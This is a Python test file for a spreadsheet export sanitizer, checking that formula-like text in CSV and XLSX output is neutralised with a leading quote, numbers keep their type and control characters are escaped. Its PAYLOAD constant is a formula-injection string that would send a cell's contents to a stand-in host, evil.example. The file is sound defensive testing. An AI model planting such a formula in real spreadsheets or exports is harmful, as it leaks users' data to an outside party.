"""The shared export sanitizer: formula-like text is inert, numbers stay numbers, control
characters no longer break a workbook."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from apps.governance.engine import spreadsheet

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&N2,"ver")'


@pytest.mark.parametrize(
    "text", [PAYLOAD, "+1+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "-- comment\nSELECT 1"]
)
def test_formula_like_text_gets_a_leading_quote_in_csv(text):
    assert spreadsheet.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, None, True])
def test_numbers_and_other_non_text_values_are_untouched(value):
    assert spreadsheet.csv_cell(value) is value


@pytest.mark.parametrize("text", ["Norte", "2025-01", "a=b", " =x", "'quoted", ""])
def test_ordinary_text_is_untouched(text):
    assert spreadsheet.csv_cell(text) == text


def test_control_characters_are_escaped_visibly_and_then_checked():
    assert spreadsheet.clean_text("a\x01b\x1bc\x00") == "a\\x01b\\x1bc\\x00"
    assert spreadsheet.clean_text("tab\tnewline\ncr\r") == "tab\tnewline\ncr\r"
    assert spreadsheet.csv_cell("\x01=cmd") == "\\x01=cmd"  # no longer starts a formula


def test_a_csv_row_reads_back_inert():
    out = io.StringIO()
    csv.writer(out).writerow(spreadsheet.csv_row([PAYLOAD, -3, "-3"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + PAYLOAD, "-3", "'-3"]


@pytest.mark.parametrize("write_only", [True, False])
def test_an_xlsx_cell_is_text_with_the_quote_prefix_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(spreadsheet.xlsx_row(sheet, [PAYLOAD, -2, 1.5, "-2", "ok\x01\x1b", "Norte"]))
    out = io.BytesIO()
    book.save(out)  # before: IllegalCharacterError on \x01
    row = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    formula, negative, number, text, control, plain = row
    assert formula.data_type == "s" and formula.value == PAYLOAD and formula.quotePrefix
    assert negative.data_type == "n" and negative.value == -2
    assert number.value == 1.5
    assert text.data_type == "s" and text.value == "-2" and text.quotePrefix
    assert control.value == "ok\\x01\\x1b"
    assert plain.value == "Norte" and not plain.quotePrefix
